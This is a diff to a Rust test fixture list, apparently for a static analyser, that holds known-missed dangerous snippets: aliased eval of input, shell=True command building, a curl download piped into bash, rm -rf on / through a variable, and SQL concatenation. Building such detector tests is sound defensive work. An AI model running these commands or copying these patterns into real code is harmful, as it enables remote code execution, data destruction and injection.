@@ -97,7 +97,7 @@ const BAD: &[Snippet] = &[
     // What is known to be missed: it takes knowledge of what a name is bound to.
     snippet("python", "eval_of_input", "run = eval\nrun(input())"),
     snippet("python", "shell_from_string", "from subprocess import check_output as co\nco('ls ' + d, shell=True)"),
-    snippet("bash", "remote_script", "curl -o /tmp/x https://example.org/x && bash /tmp/x"),
+    snippet("bash", "remote_script", "curl -o /srv/x https://example.org/x && bash /srv/x"),
     snippet("bash", "destructive_command", "D=/; rm -rf $D"),
     snippet("python", "sql_from_string", "q = 'SELECT * FROM t'\nq += ' WHERE n = ' + n"),
 ];
